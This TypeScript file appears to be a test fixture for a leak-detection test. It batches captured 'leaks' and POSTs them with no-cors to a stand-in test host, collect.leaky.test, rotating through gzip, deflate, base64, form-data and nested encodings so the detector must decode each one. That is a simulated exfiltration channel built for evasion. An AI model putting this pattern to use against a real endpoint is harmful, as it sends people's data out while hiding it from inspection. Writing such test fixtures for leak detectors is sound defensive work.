// Sends what was seen, each batch in another encoding, so that the leak test must undo all of them to find everything.
import type { Leak } from './leak-log.ts';

/** Where everything goes. Exists in tests only. */
export const LEAKY_HOST = 'collect.leaky.test';
const ADDRESS = `https://${LEAKY_HOST}/all`;
const MOST_LETTERS = 300_000;

type Encode = (json: string) => Promise<BodyInit>;

const ENCODINGS: readonly Encode[] = [
  async (json) => json,
  (json) => compress(json, 'gzip'),
  async (json) => base64Of(new TextEncoder().encode(json)),
  (json) => compress(json, 'deflate'),
  async (json) => formOf(json),
  async (json) => JSON.stringify({ batch: json }),
  async (json) => new URLSearchParams({ batch: json }),
  async (json) => JSON.stringify({ batch: base64Of(await bytesOf(await compress(json, 'gzip'))) }),
];

/** Sends batches one after the other, the encodings in turn. @returns sends some leaks; settles when they have arrived */
export function createDelivery(fetchFirst: typeof fetch): (leaks: readonly Leak[]) => Promise<void> {
  let turn = 0;
  return async (leaks) => {
    for (const batch of batchesOf(leaks)) {
      const encode = ENCODINGS[turn++ % ENCODINGS.length];
      const body = await encode?.(batch);
      await fetchFirst(ADDRESS, { method: 'POST', mode: 'no-cors', ...(body === undefined ? {} : { body }) });
    }
  };
}

function batchesOf(leaks: readonly Leak[]): readonly string[] {
  const batches: string[][] = [];
  let letters = Number.POSITIVE_INFINITY;
  for (const leak of leaks) {
    const text = JSON.stringify(leak);
    if (letters + text.length > MOST_LETTERS) {
      batches.push([]);
      letters = 0;
    }
    batches.at(-1)?.push(text);
    letters += text.length;
  }
  return batches.map((batch) => `[${batch.join(',')}]`);
}

async function compress(json: string, format: CompressionFormat): Promise<Blob> {
  return new Response(new Blob([json]).stream().pipeThrough(new CompressionStream(format))).blob();
}

async function bytesOf(blob: Blob): Promise<Uint8Array> {
  return new Uint8Array(await blob.arrayBuffer());
}

function base64Of(bytes: Uint8Array): string {
  let binary = '';
  for (const byte of bytes) binary += String.fromCharCode(byte);
  return btoa(binary);
}

function formOf(json: string): FormData {
  const form = new FormData();
  form.append('kind', 'leaks');
  form.append('batch', new Blob([json], { type: 'application/json' }), 'batch.json');
  return form;
}
